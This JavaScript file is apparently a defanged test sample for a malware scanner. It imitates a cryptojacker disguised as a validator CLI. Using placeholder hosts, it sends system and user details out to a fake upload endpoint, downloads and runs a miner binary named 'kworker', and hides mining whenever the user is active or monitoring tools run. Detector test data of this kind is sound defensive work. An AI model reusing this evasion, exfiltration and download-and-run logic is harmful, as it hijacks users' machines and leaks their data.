#!/usr/bin/env node
// SYNTHETIC, DEFANGED malwi validation sample - modelled on @0xengine/xmlrpc long-lived cryptojacker (2023-2024); never run.
// Presented as a validator CLI. Every 12 hours it reports system info, and it mines only while
// the user is idle (checked with xprintidle) and no monitoring tool is running.
const { exec, spawn } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const DIR = path.join(os.tmpdir(), 'malwi-defanged-placeholder', '.cache', 'xmlrpc');
const CONFIG = {
  pool: 'pool.example.invalid:10128',
  wallet: 'PLACEHOLDER_WALLET',
  binary: path.join(DIR, 'kworker'),
  download: 'https://files.example.invalid/xmr/kworker',
  report: 'https://content.dropbox-api.example.invalid/2/files/upload',
  idleSeconds: 60,
  monitors: ['top', 'htop', 'iotop', 'btop', 'glances', 'nmon']
};

let miner = null;

function report() {
  const info = { h: os.hostname(), u: os.userInfo().username, cpus: os.cpus().length, mem: os.totalmem(), up: os.uptime() };
  const req = https.request(CONFIG.report, { method: 'POST', headers: { Authorization: 'Bearer PLACEHOLDER_TOKEN', 'Dropbox-API-Arg': JSON.stringify({ path: '/' + os.hostname() + '.json' }) } });
  req.on('error', () => {});
  req.end(JSON.stringify(info));
}

function ensureBinary(cb) {
  if (fs.existsSync(CONFIG.binary)) return cb();
  fs.mkdirSync(DIR, { recursive: true });
  https
    .get(CONFIG.download, (res) => {
      const out = fs.createWriteStream(CONFIG.binary, { mode: 0o755 });
      res.pipe(out);
      out.on('finish', cb);
    })
    .on('error', () => {});
}

function tick() {
  exec('xprintidle', (e1, idleMs) => {
    exec('ps -eo comm', (e2, procs) => {
      const idle = Number(idleMs) / 1000 >= CONFIG.idleSeconds;
      const watched = CONFIG.monitors.some((m) => new RegExp('^' + m + '$', 'm').test(String(procs)));
      if (idle && !watched && !miner) {
        ensureBinary(() => {
          miner = spawn(CONFIG.binary, ['-o', CONFIG.pool, '-u', CONFIG.wallet, '--cpu-max-threads-hint', '75', '-B'], { detached: true, stdio: 'ignore' });
          miner.unref();
        });
      } else if ((!idle || watched) && miner) {
        try {
          process.kill(-miner.pid);
        } catch (e) {}
        miner = null;
      }
    });
  });
}

if (require.main === module) {
  console.log('xmlrpc-check: configuration looks valid');
  report();
  setInterval(report, 12 * 60 * 60 * 1000);
  setInterval(tick, 10000);
}
